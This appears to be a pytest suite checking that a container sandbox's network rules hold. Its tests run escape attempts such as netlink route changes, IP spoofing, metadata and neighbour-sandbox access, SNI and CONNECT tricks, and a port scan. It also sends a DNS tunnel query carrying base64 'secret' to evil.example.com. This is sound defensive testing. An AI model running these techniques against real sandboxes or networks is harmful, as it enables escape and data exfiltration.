"""Root inside a sandbox against its network rules. Each attack prints what it tried and what stopped it.

The rules of the victim are as wide as rules can be where that makes the attack easier: `0.0.0.0/0`, `::/0`. Beyond the machine is
`tests.internet`, which says who came; what must not happen is looked for there and not only in what the attacker saw.
"""
from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
from tests.harness import Node
from tests.inside import inside
from tests.internet import Internet

from libdsec import DSecClient, DSecContainerRunArgs, Sandbox

FAR = "192.0.2.7"
WIDE = {"0.0.0.0/0": True, "::/0": True, "www.example.org": True}
NAMED = {"www.example.org": True, "*.tunnel.example": True, "private.example.org": True, "metadata.example.org": True, "mixed.example.org": True}


class Attacks:
    """Attacks of one sandbox."""

    def __init__(self, box: Sandbox, internet: Internet) -> None:
        self.box, self.internet = box, internet

    async def try_all(self, what: str, stopped_by: str, **tries: tuple[str, object]) -> list[Any]:
        """Every expression gives what it should: its text and that value, or several that it may have."""
        self.internet.visits()
        found = await inside(self.box, *(text for text, _ in tries.values()), "0")
        for (name, (text, wanted)), got in zip(tries.items(), found, strict=False):
            allowed = wanted if isinstance(wanted, tuple) else (wanted,)
            print(f"{what}: {name}: {text.strip().splitlines()[-1]} -> {got}; {stopped_by}")
            assert got in allowed, (what, name, got)
        return list(found)


@pytest.fixture
async def boxes(client: DSecClient, python_image: str, internet: Internet) -> AsyncIterator[dict[str, Sandbox]]:
    made = {
        name: await client.run_container(DSecContainerRunArgs(container_image=python_image, memory_limit_mb=128, network_rules=rules))
        for name, rules in (("wide", WIDE), ("named", NAMED), ("victim", {f"tcp:{FAR}:7000": True}))
    }
    internet.visits()
    internet.asked()
    yield made
    await asyncio.gather(*(box.stop() for box in made.values()))


@pytest.fixture
def host_port() -> Iterator[int]:
    """A server on every address of this host."""
    with socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True) as server:
        yield server.getsockname()[1]


async def test_root_inside_does_not_administer_its_network(boxes: dict[str, Sandbox], internet: Internet) -> None:
    attacks = Attacks(boxes["wide"], internet)
    refused = ("EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ENOSYS")
    netlink = """
def rtnl(kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    number = -struct.unpack_from("=i", s.recv(4096), 16)[0]
    return errno.errorcode.get(number, number)
"""
    address = 'struct.pack("=BBBBI", 2, 24, 0, 0, 100) + struct.pack("=HH4s", 8, 2, socket.inet_aton("192.0.2.99"))'
    route = 'struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HH4s", 8, 1, socket.inet_aton("10.0.0.1")) + struct.pack("=HHI", 8, 4, 100)'
    link = 'struct.pack("=BBHiII", 0, 0, 0, 100, 0, 1)'
    spoof = """
def spoof(kind, option):
    with socket.socket(socket.AF_INET, kind) as s:
        s.setsockopt(socket.IPPROTO_IP, option, 1)
        s.settimeout(1); s.bind(("100.99.0.250", 0)); s.connect(("192.0.2.7", 7000)); s.send(b"x")
        return "sent"
spoof = tried(spoof)
"""
    await attacks.try_all(
        "its own network", "the namespace is the host's, and root inside has no right in it",
        raw=("tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) and 'open')()", refused),
        raw6=("tried(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58) and 'open')()", refused),
        packet=("tried(lambda: socket.socket(17, socket.SOCK_RAW, 0x300) and 'open')()", refused),
        vsock=("tried(lambda: socket.socket(40, socket.SOCK_STREAM, 0) and 'open')()", refused),
        address=(netlink + f"tried(lambda: rtnl(20, {address}))()", refused),
        route=(f"tried(lambda: rtnl(24, {route}))()", refused),
        down=(f"tried(lambda: rtnl(16, {link}))()", refused),
        nftables=("tried(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) and 'open')()", refused),
        freebind=(spoof + "spoof(socket.SOCK_DGRAM, 15)", ("EINVAL", "EPERM", "ENETUNREACH")),
        freebind_tcp=("spoof(socket.SOCK_STREAM, 15)", ("EINVAL", "EPERM", "EADDRNOTAVAIL", "ENETUNREACH")),
        transparent=("spoof(socket.SOCK_DGRAM, 19)", refused),
        sysctl=("tried(lambda: open('/proc/sys/net/ipv4/ip_forward', 'w').write('1'))()", ("EROFS", "EACCES", "EPERM", "ENOENT")),
        namespace=("tried(lambda: os.system('unshare -n true 2>/dev/null') and 'EPERM')()", refused),
    )  # fmt: skip
    assert internet.visits() == []


async def test_nobody_reaches_the_node_other_sandboxes_or_metadata(
    boxes: dict[str, Sandbox], internet: Internet, node: Node, host_port: int
) -> None:
    victim = boxes["victim"]
    server = "import socket\ns = socket.create_server(('::', 8000), family=socket.AF_INET6, dualstack_ipv6=True)\nwhile 1:\n c, _ = s.accept(); c.send(b'here')"
    await victim.start(["python3", "-c", server])
    address = (await victim.network()).address
    own6 = (await inside(victim, "[l.split()[0] for l in open('/proc/net/if_inet6') if l.startswith('fd')][0]"))
    victim6 = ":".join(own6[i : i + 4] for i in range(0, 32, 4))
    refused = ("ECONNREFUSED", "EHOSTUNREACH", "EACCES", "ENETUNREACH")
    uplink = int(node.prefix, 36) % 4096 * 2
    outer = f"169.254.{128 + (uplink >> 8)}.{uplink & 255}"
    attacks = Attacks(boxes["wide"], internet)
    await attacks.try_all(
        "what no rule opens, with 0.0.0.0/0 and ::/0 open", "the rule set refuses these addresses before it looks at any rule",
        works=(f'tcp("{FAR}", 7000)', "ok: hi"),
        metadata=('tcp("169.254.169.254", 80)', refused), metadata6=('tcp("fd00:ec2::254", 80)', refused),
        sandbox=(f'tcp("{address}", 8000)', refused), sandbox6=(f'tcp("{victim6}", 8000)', refused),
        sandbox_udp=(f'udp("{address}", 8000)', refused), sandbox_ping=(f'ping("{address}")', refused),
        gateway=('tcp("169.254.1.1", 22)', refused), proxy=('tcp("169.254.1.1", 3128)', refused), service=('tcp("169.254.1.1", 3141)', refused),
        gateway6=('tcp("fd64:7365:6300::1", 3128)', refused), gateway_ping=('ping("169.254.1.1")', refused),
        host=(f'tcp("198.51.100.1", {host_port})', refused), host6=(f'tcp("2001:db8:ff::1", {host_port})', refused),
        uplink=(f'tcp("{outer}", {host_port})', refused), api=(f'tcp("198.51.100.1", {node.port})', refused),
        broadcast=('udp("255.255.255.255", 67)', ("EACCES", *refused)), multicast=('udp("224.0.0.251", 5353)', ("timeout", *refused)),
        mapped=(f'tcp("::ffff:{address}", 8000)', refused), nat64=('tcp("64:ff9b::a9fe:a9fe", 80)', refused),
        zero=('tcp("0.0.0.0", 3128)', refused), multicast6=('udp("ff02::1", 5353)', ("timeout", "EADDRNOTAVAIL", "EINVAL", *refused)),
        link_local=('tcp("fe80::1", 22)', ("EINVAL", "EADDRNOTAVAIL", *refused)),
    )  # fmt: skip
    assert set(internet.visits()) == {("tcp", FAR, 7000)}
    reasons = {e.details["reason"] for e in await boxes["wide"].events(kind="egress_denied")}
    print("told:", sorted(reasons))
    assert reasons >= {"metadata", "other_sandbox", "node"}
    # nor does anybody get in
    assert await inside(victim, 'tcp("169.254.1.1", 53, timeout=1)') in ("timeout", "ok: ")


async def test_names_are_no_way_out(boxes: dict[str, Sandbox], internet: Internet) -> None:
    attacks = Attacks(boxes["named"], internet)
    nothing = {"code": 3, "answers": 0}
    await attacks.try_all(
        "names", "the only resolver is the node's, and it asks for allowed names only",
        tunnel=('question("c2VjcmV0.evil.example.com")', nothing), tunnel_txt=('question("c2VjcmV0.evil.example.com", 16)', nothing),
        another_resolver=('question("www.example.org", server="192.0.2.53")', ("EHOSTUNREACH", "ECONNREFUSED")),
        resolver_tcp=('tcp("192.0.2.53", 53)', "ECONNREFUSED"), doh=('web("dns.example.com", "192.0.2.53")', ("ECONNRESET", "no handshake")),
        text_of_an_allowed_name=('question("www.example.org", 16)', {"code": 0, "answers": 0}),
        rebinding=('question("private.example.org")', {"code": 0, "answers": 0}),
        rebinding_metadata=('question("metadata.example.org")', {"code": 0, "answers": 0}),
        rebinding_mixed=('resolve("mixed.example.org")', (["192.0.2.12"],)),
        garbage=("udp('169.254.1.1', 53, os.urandom(300))", "timeout"),
    )  # fmt: skip
    assert set(internet.asked()) <= {"www.example.org", "private.example.org", "metadata.example.org", "mixed.example.org"}
    reasons = {(e.details["reason"], e.details["name"]) for e in await boxes["named"].events(kind="dns_denied")}
    print("told:", sorted(reasons))
    assert ("name", "c2vjcmv0.evil.example.com") in reasons and ("private_answer", "private.example.org") in reasons


async def test_one_name_is_no_way_to_another(boxes: dict[str, Sandbox], internet: Internet) -> None:
    attacks = Attacks(boxes["named"], internet)
    reset = ("ECONNRESET", "no handshake", "closed", "EPIPE")
    two = 'b"GET / HTTP/1.1\\r\\nHost: www.example.org\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n"'
    relay = """
import threading
relaying = socket.create_server(("127.0.0.1", 8888))
def relay():
    with relaying:
        c, _ = relaying.accept()
        line = c.recv(4096)
        far = socket.create_connection(("192.0.2.66", 443), 3)
        c.send(b"HTTP/1.1 200 OK\\r\\n\\r\\n"); far.send(c.recv(4096)); c.send(far.recv(4096)); c.close()
threading.Thread(target=tried(relay), daemon=True).start()
def through():
    c = socket.create_connection(("127.0.0.1", 8888), 3)
    c.send(b"CONNECT evil.example.com:443 HTTP/1.1\\r\\n\\r\\n"); c.recv(100)
    s = ssl._create_unverified_context().wrap_socket(c, server_hostname="evil.example.com")
    return "connected"
through = tried(through)
"""
    found = await attacks.try_all(
        "another name", "the name that a connection says is held against the rules and against the addresses of that name",
        works=('web("www.example.org")["sni"]', "www.example.org"),
        spoofed_name=('web("www.example.org", "192.0.2.66")', reset),
        name_of_a_server_next_to_it=('web("evil.example.com", "192.0.2.10")', reset), no_name=('web("www.example.org", "192.0.2.10", "")', reset),
        spoofed_host=('web("www.example.org", "192.0.2.66", port=80)', reset), literal=('web("192.0.2.66", port=80)', reset),
        literal_of_an_allowed_address=('web("192.0.2.10", port=80)', reset), second_request=(f'(lambda got: got if isinstance(got, str) else got["host"])(web("www.example.org", port=80, raw={two}))', ("www.example.org", *reset)),
        connect=('web("www.example.org", port=80, raw=b"CONNECT evil.example.com:443 HTTP/1.1\\r\\n\\r\\n")', reset),
        absolute=('web("www.example.org", port=80, raw=b"GET http://evil.example.com/ HTTP/1.1\\r\\nHost: www.example.org\\r\\n\\r\\n")', reset),
        not_http=('web("www.example.org", port=80, raw=b"SSH-2.0-x\\r\\n")', reset), upgrade=('web("www.example.org", port=80, raw=b"GET / HTTP/1.1\\r\\nHost: www.example.org\\r\\nUpgrade: h2c\\r\\n\\r\\n")', reset),
        quic=('udp("192.0.2.10", 443)', ("EHOSTUNREACH",)), another_port=('tcp("192.0.2.10", 7000)', "ECONNREFUSED"),
        relay=(relay + "through()", reset),
    )  # fmt: skip
    assert found
    assert {visit for visit in internet.visits() if visit[0] == "tcp"} <= {("tcp", "192.0.2.10", 80), ("tcp", "192.0.2.10", 443), ("tcp", "2001:db8:1::10", 443), ("tcp", "2001:db8:1::10", 80)}
    told = {e.details["reason"]: e.count for e in await boxes["named"].events(kind="egress_denied")}
    print("told:", told)
    assert set(told) >= {"address_of_another_name", "name", "no_name", "address_as_name", "another_host", "connect", "bad_name", "not_http", "upgrade", "no_rule"}


async def test_packets_are_no_way_around_a_rule(boxes: dict[str, Sandbox], internet: Internet) -> None:
    attacks = Attacks(boxes["victim"], internet)
    await attacks.try_all(
        "packets", "every packet is held against the rules, fragments when they are whole again",
        fragments=(f"udp('{FAR}', 7000, b'x' * 9000)", ("EHOSTUNREACH", "timeout")),
        ping=(f"ping('{FAR}')", ("EHOSTUNREACH",)), big_ping=(f"ping('{FAR}', 5000)", ("EHOSTUNREACH", "timeout")),
        source_of_dns=(f"udp('{FAR}', 5353, source=('0.0.0.0', 53))", ("EHOSTUNREACH",)),
        source_of_an_allowed_port=(f"tcp('{FAR}', 22, source=('0.0.0.0', 7000))", ("ECONNREFUSED",)),
        udp_at_an_allowed_tcp_port=(f"udp('{FAR}', 7000)", ("EHOSTUNREACH",)),
        sctp=("tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) and 'open')()", ("EPROTONOSUPPORT", "EPERM", "ESOCKTNOSUPPORT", "open")),
        works=(f"tcp('{FAR}', 7000)", "ok: hi"),
    )  # fmt: skip
    assert set(internet.visits()) == {("tcp", FAR, 7000)}


async def test_a_flood_of_refused_connections_is_told_of_within_bounds(boxes: dict[str, Sandbox], internet: Internet) -> None:
    box = boxes["victim"]
    scan = f'sum(tcp("{FAR}", port, timeout=1) == "ECONNREFUSED" for port in range(8000, 9000))'
    assert await inside(box, scan) == 1000
    told = await box.events(kind="egress_denied")
    print(f"a scan of 1000 ports: all refused, {len(told)} told of")
    assert 20 <= len(told) <= 400 and internet.visits() == []
